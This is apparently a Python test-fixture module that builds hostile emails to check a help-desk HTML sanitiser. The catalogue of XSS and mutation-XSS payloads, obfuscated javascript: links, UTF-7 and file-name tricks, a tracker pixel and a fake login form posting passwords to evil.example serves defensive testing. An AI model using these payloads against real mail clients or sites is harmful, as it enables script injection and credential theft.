"""Hostile mail: what a customer (or anyone who can write to the desk) may
send to run a script on the desk, make the page lie, or lead an agent into
the desk itself. Each message is named; each script it tries calls
``alert()`` or sets ``window.pwned``, so a browser test can tell if one ran.

The sanitiser must hold by itself: the browser test renders every message
with the Content-Security-Policy on and again with it off."""

from email.message import EmailMessage
from email.mime.image import MIMEImage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from email.utils import make_msgid

from notifications.tests.corpus import CUSTOMER, DESK, PNG, by_hand

# Hosts a hostile message may point at; a browser test fails on any request to them.
EVIL_HOSTS = ("evil.example", "tracker.example.net")


def _html(subject: str, html: str, *, sender: str = f"Ana <{CUSTOMER}>") -> bytes:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = DESK
    message["Subject"] = subject
    message["Message-ID"] = make_msgid(domain="example.com")
    message.set_content(f"<html><body><p>Texto visible</p>{html}</body></html>", subtype="html")
    return bytes(message)


def image_part(
    *, name: str, content: bytes, content_id: str = "", declared: str = "png", html: str = ""
) -> bytes:
    """A message with one part that says it is ``image/<declared>``: its
    name and bytes may say otherwise. With a Content-ID it is an inline
    part the HTML body points at (``cid:``); without, an attachment."""
    root = MIMEMultipart("related" if content_id else "mixed")
    root["From"] = f"Ana <{CUSTOMER}>"
    root["To"] = DESK
    root["Subject"] = f"Factura {name}"
    root["Message-ID"] = make_msgid(domain="example.com")
    body = html or (
        f'<p>Texto visible</p><img src="cid:{content_id}" alt="factura">'
        f'<a href="cid:{content_id}">Ver factura</a>'
        if content_id
        else "<p>Texto visible</p><p>Adjunto la factura.</p>"
    )
    root.attach(MIMEText(body, "html", "utf-8"))
    part = MIMEImage(content, declared)
    if content_id:
        part["Content-ID"] = f"<{content_id}>"
        part["Content-Disposition"] = f'inline; filename="{name}"'
    else:
        part["Content-Disposition"] = f'attachment; filename="{name}"'
    root.attach(part)
    return root.as_bytes()


FAKE_LOGIN_PAGE = (
    b"<!doctype html><title>Sesi\xc3\xb3n caducada</title><h1>Sesi\xc3\xb3n caducada</h1>"
    b'<form action="https://evil.example/steal" method="post"><input name="password">'
    b"<button>Entrar</button></form><script>alert('page')</script>"
)
SVG_WITH_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'svg\')">'
    b"<script>alert('svg script')</script><text y=\"20\">factura</text></svg>"
)

# Links that must not stay links: into the desk (relative, same host) and
# scripts in every spelling a browser still reads as a script.
LINKS_INTO_THE_DESK = [
    '<a href="/mailbox/1/files/1/?inline=1">Ver factura</a>',
    '<a href="/logout/">Cerrar sesión</a>',
    '<a href="../../admin/">Administración</a>',
    '<a href="?images=1">Ver imágenes</a>',
    '<a href="#message-actions">Acciones</a>',
    '<a href="http://localhost/mailbox/">Buzón local</a>',
    '<a href="http://127.0.0.1/mailbox/">Buzón por IP</a>',
    '<a href="http://2130706433/mailbox/">Buzón por número</a>',
    '<a href="https://user@localhost/">Con usuario</a>',
    '<a href="//localhost/mailbox/">Sin esquema</a>',
]
DISGUISED_SCRIPTS = [
    '<a href="javascript:alert(1)">uno</a>',
    '<a href="JaVaScRiPt:alert(2)">dos</a>',
    '<a href="java\0script:alert(3)">tres</a>',
    '<a href="java&#0;script:alert(4)">cuatro</a>',
    '<a href="&#x6A;avascript&#x3A;alert(5)">cinco</a>',
    '<a href="java&Tab;script:alert(6)">seis</a>',
    '<a href="java&NewLine;script:alert(7)">siete</a>',
    '<a href="&#x2028;javascript:alert(8)">ocho</a>',
    '<a href="\u2029javascript:alert(9)">nueve</a>',
    '<a href="&#1;&#2;javascript:alert(10)">diez</a>',
    '<a href="  javascript:alert(11)">once</a>',
    '<a href="vbscript:msgbox(12)">doce</a>',
    '<a href="data:text/html,<script>alert(13)</script>">trece</a>',
    '<a href="DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxNCk8L3NjcmlwdD4=">catorce</a>',
    '<a href="https:\\\\evil.example/">quince</a>',
]
OUTSIDE_LINK = '<a href="https://www.registradores.org/ayuda">Ayuda del Colegio</a>'


# (name, HTML body) of the hostile markup, each sent as a mail of its own.
HOSTILE_HTML = [
    ("script", "<script>window.pwned=1;alert('script')</script>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("img-onerror", "<img src=x onerror=\"alert('img')\">"),
    ("svg-onload", "<svg onload=\"alert('svg')\"><circle r=10></circle></svg>"),
    ("svg-script", "<svg><script>alert('svg script')</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>'),
    ("math-xlink", '<math><maction xlink:href="javascript:alert(1)">x</maction></math>'),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert('frame')</script>\"></iframe>"),
    ("object-embed", '<object data="javascript:alert(1)"></object><embed src="x.svg">'),
    ("body-onload", "<body onload=\"alert('body')\">cuerpo</body>"),
    ("details-ontoggle", "<details open ontoggle=\"alert('details')\"><summary>x</summary>"),
    ("input-autofocus", "<input autofocus onfocus=\"alert('input')\">"),
    ("video-source", "<video><source onerror=\"alert('video')\"></video>"),
    ("marquee", "<marquee onstart=\"alert('marquee')\">texto</marquee>"),
    ("meta-refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert('meta')\">"),
    ("base-href", '<base href="https://evil.example/"><a href="x">relativo</a>'),
    ("link-import", '<link rel=stylesheet href="https://evil.example/x.css">'),
    (
        "form-post",
        '<form action="https://evil.example/steal" method=post><input name=password>'
        '<button formaction="javascript:alert(1)">Entrar</button></form>',
    ),
    ("style-import", "<style>@import 'https://evil.example/x.css'; body{display:none}</style>"),
    (
        "overlay",
        '<div style="position:fixed;inset:0;z-index:99999;background:#fff">'
        "Sesión caducada: vuelva a entrar</div>",
    ),
    ("css-url", '<div style="background:url(javascript:alert(1))">fondo</div>'),
    (
        "mxss-noscript",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('noscript')>\">",
    ),
    (
        "mxss-mglyph",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert('mglyph')>",
    ),
    (
        "mxss-svg-style",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert('svgstyle')>\">",
    ),
    ("template", "<template><img src=x onerror=\"alert('template')\"></template>"),
    ("textarea-breakout", "<textarea></textarea><script>alert('textarea')</script>"),
    ("title-breakout", "</title><script>alert('title')</script>"),
    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    ("huge-image", '<img src="cid:nothing" width=5000 height=5000 alt="grande">'),
    ("tracker", '<img src="https://tracker.example.net/pixel.gif" alt="pixel">'),
    ("links-into-the-desk", "<p>" + "</p><p>".join(LINKS_INTO_THE_DESK) + "</p>"),
    ("disguised-scripts", "<p>" + "</p><p>".join(DISGUISED_SCRIPTS) + "</p>"),
    ("link-target-self", f'<a href="https://evil.example/" target="_self">{OUTSIDE_LINK}</a>'),
    ("rtl-override", "<p>factura\u202efdp.exe</p>"),
]


def _hostile_headers_and_text() -> list[tuple[str, bytes]]:
    """Hostile subject and sender, charsets and plain text that looks like HTML."""
    return [
        (
            "subject-and-sender",
            _html(
                "<script>alert('subject')</script>",
                "<p>cabeceras</p>",
                sender="\"<img src=x onerror=alert('from')>\" <ana@example.com>",
            ),
        ),
        (
            "utf-7",
            by_hand(
                f"From: Ana <{CUSTOMER}>\nTo: {DESK}\nSubject: UTF-7\n"
                "Message-ID: <utf7@example.com>\nMIME-Version: 1.0\n"
                "Content-Type: text/html; charset=utf-7\n\n"
                "+ADw-p+AD4-Texto visible+ADw-/p+AD4-"
                "+ADw-script+AD4-alert('utf7')+ADw-/script+AD4-\n"
            ),
        ),
        (
            "nul-characters",
            by_hand(
                f"From: Ana <{CUSTOMER}>\nTo: {DESK}\nSubject: Factura\0 pendiente\n"
                "Message-ID: <nul@example.com>\n\n"
                "Texto visible\0 <a href=javascript:alert(1)>x</a>\n"
            ),
        ),
        (
            "text-looks-like-html",
            by_hand(
                f"From: Ana <{CUSTOMER}>\nTo: {DESK}\nSubject: Texto\n"
                "Message-ID: <text-html@example.com>\n\n"
                "Texto visible <script>alert('text')</script> <img src=x onerror=alert(1)>\n"
            ),
        ),
    ]


def _hostile_images() -> list[tuple[str, bytes]]:
    """Image parts whose name, declared type or content lie."""
    return [
        (
            "hostile-file-name",
            image_part(name="</script><img src=x onerror=alert('name')>.png", content=PNG),
        ),
        (
            "html-as-png-inline",
            image_part(name="factura.html", content=FAKE_LOGIN_PAGE, content_id="f1@example.com"),
        ),
        ("html-as-png-attachment", image_part(name="factura.html", content=FAKE_LOGIN_PAGE)),
        (
            "svg-as-png-inline",
            image_part(name="x.svg", content=SVG_WITH_SCRIPT, content_id="s1@example.com"),
        ),
        ("svg-as-png-attachment", image_part(name="x.svg", content=SVG_WITH_SCRIPT)),
        (
            "svg-declared-svg",
            image_part(
                name="x.svg",
                content=SVG_WITH_SCRIPT,
                content_id="s2@example.com",
                declared="svg+xml",
            ),
        ),
        (
            "real-png-named-html",
            image_part(name="captura.html", content=PNG, content_id="p1@example.com"),
        ),
        ("real-png", image_part(name="captura.png", content=PNG, content_id="p2@example.com")),
    ]


def hostile_messages() -> list[tuple[str, bytes]]:
    """(name, raw message) of every hostile message; at least 40."""
    html = [(name, _html(f"HTML {name}", body)) for name, body in HOSTILE_HTML]
    return html + _hostile_headers_and_text() + _hostile_images()
